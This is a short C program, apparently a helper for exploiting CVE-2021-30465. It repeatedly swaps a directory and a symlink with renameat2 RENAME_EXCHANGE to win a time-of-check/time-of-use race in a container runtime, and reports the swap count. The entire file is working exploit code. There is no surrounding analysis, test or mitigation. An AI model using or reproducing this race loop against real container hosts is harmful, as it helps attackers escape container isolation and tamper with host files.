/* swap_loop A B SECONDS: exchange the names A and B (renameat2
 * RENAME_EXCHANGE) as fast as it can for SECONDS: a directory and a
 * symlink swapped under a runtime that resolves a path and then uses it
 * (CVE-2021-30465).  Prints how many swaps it made. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <time.h>
#include <unistd.h>
#include <sys/syscall.h>
#include <linux/fs.h>

int main(int argc, char **argv)
{
    unsigned long swaps = 0;
    time_t end;
    if (argc != 4)
        return 2;
    end = time(NULL) + atoi(argv[3]);
    while (time(NULL) < end)
        for (int i = 0; i < 1000; i++)
            if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2], RENAME_EXCHANGE) == 0)
                swaps++;
    printf("%lu swaps\n", swaps);
    return 0;
}
